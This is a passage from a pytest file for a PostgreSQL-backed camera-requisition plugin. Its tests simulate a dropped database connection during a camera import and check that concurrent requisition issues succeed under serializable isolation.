                        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                        "WHERE datname = current_database() AND pid <> pg_backend_pid()",
                    )
                )

    feedback = TerminatingFeedback()
    with pytest.raises(QgsProcessingException, match="connection to the database was lost during the import"):
        import_cameras(db, point_layer(rows), feedback=feedback)
    assert feedback.terminated
    assert sql(db, "SELECT count(*) FROM camreq.cameras WHERE ref LIKE %s", ("K-%",)) == [(0,)]


# Low: under a serializable default isolation, concurrent issues failed with a raw serialization error.


def test_concurrent_issues_succeed_whatever_the_databases_default_isolation(create, cameras_layer, scene, sql, db):
    import time

    from camreq.db.connection import connect
    from camreq.db.requisitions import issue

    create(cameras_layer(), ISSUE=False, OFFICER_UNIT=UNIT)
    drafts = [draft for (draft,) in sql(db, "SELECT id FROM camreq.requisitions ORDER BY id")]
    sql(db, SQL("ALTER DATABASE {} SET default_transaction_isolation = serializable").format(
        Identifier(db.split("=", 1)[1])))  # fmt: skip
    first, second = connect(db), connect(db)
    errors = []

    def issue_second() -> None:
        try:
            with second, second.cursor() as cursor:
                issue(cursor, drafts[1])
        except psycopg2.Error as error:
            errors.append(error)

    try:
        with first.cursor() as cursor:
            issue(cursor, drafts[0])  # holds the unit's counter until it commits
        waiter = threading.Thread(target=issue_second)
        waiter.start()
        deadline = time.monotonic() + 60
        while sql(db, "SELECT wait_event_type FROM pg_stat_activity WHERE pid = %s",
                  (second.get_backend_pid(),)) != [("Lock",)]:  # fmt: skip
            assert time.monotonic() < deadline, "the second issue never waited for the first"
        first.commit()
        waiter.join(60)
    finally:
        first.close()
        second.close()
    assert errors == []
    numbers = sql(db, "SELECT number FROM camreq.requisitions WHERE id = ANY(%s) ORDER BY number", (drafts[:2],))
    assert [number[-6:] for (number,) in numbers] == ["000001", "000002"]
